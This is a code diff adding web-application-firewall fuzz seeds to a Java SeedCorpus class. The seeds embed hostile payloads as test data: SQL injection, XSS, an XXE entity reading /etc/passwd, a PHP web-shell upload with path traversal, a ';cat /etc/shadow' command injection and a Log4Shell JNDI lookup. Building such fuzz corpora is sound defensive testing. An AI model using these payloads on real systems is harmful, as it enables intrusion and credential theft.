@@ -59,6 +59,7 @@ public final class SeedCorpus {
         write("SessionFuzzTestInputs/session", session);
         write("TypedDataFuzzTestInputs/parse", payloads());
         write("RequestHeadersFuzzTestInputs/parse", headers());
+        write("WafFuzzTestInputs/evaluate", wafRequests());
     }
 
     static Map<String, byte[]> frames() throws IOException {
@@ -135,6 +136,34 @@ public final class SeedCorpus {
         seeds.put("long-value", MessageBuilder.headersBinary(java.util.Collections.singletonList(new String[] {"x-long", "a".repeat(300)})));
         seeds.put("missing-terminator", new byte[] {4, 'h', 'o', 's', 't', 1, 'x'});
         return seeds;
+    }
+
+    /** Option byte (content type), then query, cookie and body separated by 0x00. */
+    static Map<String, byte[]> wafRequests() {
+        Map<String, byte[]> seeds = new LinkedHashMap<>();
+        seeds.put("urlencoded-sqli", waf(0, "id=1%20OR%201%3D1&x=%3Cscript%3E", "session=abc; theme=dark",
+                "user=admin'--&pass=x&list[]=1&list[]=2"));
+        seeds.put("json-nested", waf(1, "", "", "{\"a\":{\"b\":[1,2,{\"c\":\"<img src=x onerror=alert(1)>\"}]},\"d\":null,"
+                + "\"e\":\"\\u0027 or 1=1\"}"));
+        seeds.put("xml-with-dtd", waf(2, "", "", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
+                + "\"file:///etc/passwd\">]><r a=\"1\"><c>&x;</c><![CDATA[<b>]]></r>"));
+        seeds.put("multipart-file", waf(3, "", "", "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; "
+                + "filename=\"../shell.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET[c]); ?>\r\n"
+                + "--XyZ\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nvalue\r\n--XyZ--\r\n"));
+        seeds.put("plain-traversal", waf(4, "file=..%252f..%252fetc%252fpasswd&cmd=;cat%20/etc/shadow", "", "hello"));
+        seeds.put("no-content-type", waf(5, "q=%24%7Bjndi:ldap://x/a%7D", "a=%00b", "\u0000\u00ff"));
+        return seeds;
+    }
+
+    private static byte[] waf(int contentType, String query, String cookie, String body) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(contentType);
+        out.writeBytes(query.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
+        out.write(0);
+        out.writeBytes(cookie.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
+        out.write(0);
+        out.writeBytes(body.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
+        return out.toByteArray();
     }
 
     private static void write(String directory, Map<String, byte[]> seeds) throws IOException {
